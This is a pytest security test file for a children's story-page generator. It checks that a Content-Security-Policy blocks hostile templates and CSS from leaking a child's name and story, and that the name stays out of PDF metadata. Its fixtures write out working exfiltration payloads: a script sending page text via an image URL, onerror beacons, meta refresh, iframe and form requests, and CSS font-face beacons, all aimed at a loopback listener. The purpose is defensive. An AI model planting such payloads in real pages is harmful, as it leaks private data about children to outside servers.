"""Nothing leaves a page: a shared library's template and custom.css try to send a child's name and
story to a server when a family opens a page storygen wrote (or the preview shows it), and to put
her name into a PDF's metadata. A listener on loopback must hear nothing; the same page with its
policy switched off proves the listener would have heard."""

from __future__ import annotations

import shutil
import subprocess
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner

from storygen import serve
from storygen.cli import main
from storygen.pages import policy
from tests.conftest import EXAMPLES, REPO

HAIRCUT = """\
title: $name gets a haircut
tags: [haircut, barber]
defaults: {name: Sam, pronouns: they}
steps:
  - $name walks into the barber shop.
  - $They {sits|sit} in the big chair.
"""
ATTACK = """\
<script>new Image().src = "http://127.0.0.1:PORT/script?" + encodeURIComponent(document.body.innerText);</script>
<img src="http://127.0.0.1:PORT/img" alt="">
<img src="x" alt="" onerror="new Image().src = 'http://127.0.0.1:PORT/onerror'">
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:PORT/refresh">
<link rel="stylesheet" href="http://127.0.0.1:PORT/link">
<iframe src="http://127.0.0.1:PORT/frame"></iframe>
<form action="http://127.0.0.1:PORT/form"><button id="send">Send</button></form>
"""
# the title and metadata of a child's PDF, told about her
HEAD = """\
{% block title %}{{ story.title }}{% endblock %}
{% block meta %}<meta name="author" content="{{ story.title }}"><meta name="description" content="{{ story.title }}">
<meta name="keywords" content="{{ story.title }}">{% endblock %}
"""
CSS = """\
body { background: url(http://127.0.0.1:PORT/background); }
@font-face { font-family: spy; src: url(http://127.0.0.1:PORT/letter-Z); unicode-range: U+5A; }
h1, p { font-family: spy, sans-serif; }
"""


class Listener(ThreadingHTTPServer):
    """A server on loopback that notes every request made to it."""

    daemon_threads = True

    def __init__(self):
        self.heard: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                listener.heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, listener):
    """A library whose templates and custom.css try everything, built for everyone and for Mia."""
    library = tmp_path_factory.mktemp("hostile")
    port = str(listener.server_address[1])
    (library / "storygen.yaml").write_text("name: Friendly clinic\n", encoding="utf-8")
    stories = library / "stories"
    stories.mkdir()
    for name in ("brushing-teeth.yaml", "washing-hands.yaml"):  # a task with Mia's sessions; es and ko
        shutil.copy(EXAMPLES / name, stories / name)
    (stories / "haircut.yaml").write_text(HAIRCUT, encoding="utf-8")
    shutil.copytree(REPO / "tests" / "fixtures" / "profiles" / "mia", library / "profiles" / "mia")
    templates = library / "templates"
    templates.mkdir()
    attack = ATTACK.replace("PORT", port)
    for name in ("story.html", "progress.html"):
        override = f'{{% extends "builtin/{name}" %}}\n{HEAD}{{% block credits %}}{{{{ super() }}}}\n{attack}{{% endblock %}}\n'
        (templates / name).write_text(override, encoding="utf-8")
    (templates / "custom.css").write_text(CSS.replace("PORT", port), encoding="utf-8")
    runner = CliRunner()
    shared = runner.invoke(main, ["build", str(stories), "-o", str(library / "build"), "-j", "1"])
    assert shared.exit_code == 0, shared.output
    child = runner.invoke(main, ["build", str(stories), "--profile", str(library / "profiles" / "mia"), "-j", "1"])
    assert child.exit_code == 0, child.output
    sheet = runner.invoke(main, ["symbols", "tooth", "--sheet", "-o", str(library / "symbols-tooth.html")])
    assert sheet.exit_code == 0, sheet.output
    return library, shared.output


def written_pages(library: Path) -> dict[str, Path]:
    mia = library / "profiles" / "mia" / "build"
    return {
        "story": library / "build" / "washing-hands" / "washing-hands.html",
        "story in Spanish": library / "build" / "washing-hands" / "es" / "washing-hands.html",
        "story in Korean": library / "build" / "washing-hands" / "ko" / "washing-hands.html",
        "catalog": library / "build" / "index.html",
        "child's index": mia / "index.html",
        "child's story": mia / "haircut" / "haircut.html",
        "progress report": mia / "brushing-teeth" / "brushing-teeth-progress.html",
        "symbols sheet": library / "symbols-tooth.html",
    }


def heard_after_opening(browser, listener, url: str, bypass_csp: bool = False) -> tuple[list[str], dict]:
    """What the listener heard while Chromium showed url (and a button of the attack was pressed),
    and facts about the page: the first element of its head, whether storygen's own script ran."""
    listener.heard.clear()
    context = browser.new_context(bypass_csp=bypass_csp)
    tab = context.new_page()
    tab.goto(url)
    tab.wait_for_load_state("load")
    facts = {"presenter": bool(tab.locator("#present").count())}
    if facts["presenter"]:  # storygen's own script still runs: the presenter starts
        tab.click("#present")
        facts["presenting"] = tab.evaluate("document.documentElement.classList.contains('presenting')")
    if tab.locator("#send").count():
        tab.locator("#send").first.dispatch_event("click")
    tab.wait_for_timeout(700)  # a refresh, a late font or picture
    facts.update(tab.evaluate("() => ({first: document.head.firstElementChild.outerHTML, url: location.href})"))
    context.close()
    return list(listener.heard), facts


PAGES = list(written_pages(Path(".")))


@pytest.mark.weasyprint_warnings  # the print versions ask for the remote pictures and fonts: refused
@pytest.mark.parametrize("page", PAGES)
def test_a_page_storygen_wrote_sends_nothing_anywhere(hostile, listener, browser, page):
    library, _ = hostile
    path = written_pages(library)[page]
    heard, facts = heard_after_opening(browser, listener, path.as_uri())
    assert heard == []
    assert facts["first"].startswith('<meta http-equiv="Content-Security-Policy"'), facts["first"]
    assert "default-src 'none'" in facts["first"]
    assert facts["url"] == path.as_uri()  # no refresh took the page away
    if facts["presenter"]:
        assert facts["presenting"]


@pytest.mark.weasyprint_warnings
def test_the_listener_hears_the_attack_when_the_policy_is_off(hostile, listener, browser):
    """The control: the same page, its policy bypassed, does send (so silence above means something)."""
    library, _ = hostile
    heard, _ = heard_after_opening(browser, listener, written_pages(library)["child's story"].as_uri(), True)
    assert any(path.startswith("/script?") and "Mia" in urllib.request.unquote(path) for path in heard), heard
    assert {"/img", "/background"} <= set(heard)


@pytest.mark.weasyprint_warnings
def test_the_preview_sends_nothing_anywhere(hostile, listener, browser):
    library, _ = hostile
    running = serve.start([library / "stories"], port=0)
    try:
        for path in (
            "/",
            "/story/haircut?view=web&profile=mia",
            "/story/haircut?view=print&profile=mia",
            "/story/washing-hands?view=web&lang=es",
            "/frame/haircut?view=web&profile=mia",  # opened by itself, as any web page could send a browser there
            "/frame/brushing-teeth?view=print",
        ):
            heard, facts = heard_after_opening(browser, listener, running.url.rstrip("/") + path)
            assert heard == [], path
            assert facts["first"].startswith('<meta http-equiv="Content-Security-Policy"'), path
        with urllib.request.urlopen(running.url + "frame/haircut?view=web") as response:
            header = response.headers["Content-Security-Policy"]
        assert header.startswith("sandbox allow-scripts;") and "default-src 'none'" in header
        scripts = next(part for part in header.split(";") if part.strip().startswith("script-src"))
        assert scripts.split()[1:] and all(source.startswith("'sha256-") for source in scripts.split()[1:])
    finally:
        running.stop()


@pytest.mark.weasyprint_warnings
def test_a_childs_pdf_metadata_holds_no_name_whatever_the_template_says(hostile):
    library, _ = hostile
    pdfs = sorted((library / "profiles" / "mia" / "build").rglob("*.pdf"))
    assert len(pdfs) > 5
    for pdf in pdfs:
        info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
        xmp = subprocess.run(["pdfinfo", "-meta", str(pdf)], capture_output=True, text=True, check=True).stdout
        assert "Mia" not in info and "Mia" not in xmp, pdf
    haircut = subprocess.run(
        ["pdfinfo", str(library / "profiles" / "mia" / "build" / "haircut" / "haircut.pdf")],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "Title:           Sam gets a haircut" in haircut  # the story's defaults, as the built-in title says
    assert "Keywords:        haircut, barber" in haircut


@pytest.mark.weasyprint_warnings
def test_the_build_warns_at_each_script_and_handler_in_a_library_template(hostile):
    _, output = hostile
    story_html = "templates/story.html"
    assert f"{story_html}:6:1: warning: '<script' in a template" in output
    assert f"{story_html}:8:" in output and "'onerror' in a template" in output
    assert "'http-equiv' in a template" in output and "'<link' in a template" in output


@pytest.mark.parametrize(
    "page",
    [
        "<!DOCTYPE html>\n<html lang='en'><script>alert(1)</script><head><title>x</title></head></html>",
        "<!-- <head> --><script>alert(1)</script>",
        "\u2028<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
        "<script>alert(1)</script><!DOCTYPE html><html><head></head></html>",
    ],
)
def test_the_policy_comes_before_anything_a_template_wrote(page, browser):
    """Pages not shaped as storygen's: the policy goes first, and the browser still puts it in <head>."""
    protected = policy.protect(page)
    assert protected.index("Content-Security-Policy") < protected.index("<script>")
    context = browser.new_context()
    tab = context.new_page()
    tab.set_content(protected)
    assert tab.evaluate("document.head.firstElementChild.getAttribute('http-equiv')") == "Content-Security-Policy"
    context.close()


def test_pragmas_and_links_are_made_inert_in_any_case_or_place():
    page = policy.protect(
        '<!DOCTYPE html><html><head><META HTTP-EQUIV="refresh" content="0;url=x"></head>'
        '<body><svg><link href="x"/></svg><LINK rel=dns-prefetch href="//x"><base href="http://x/"></body></html>'
    )
    assert page.count("http-equiv") == 1  # storygen's own policy only
    assert "<link" not in page.lower() and "<base" not in page.lower()
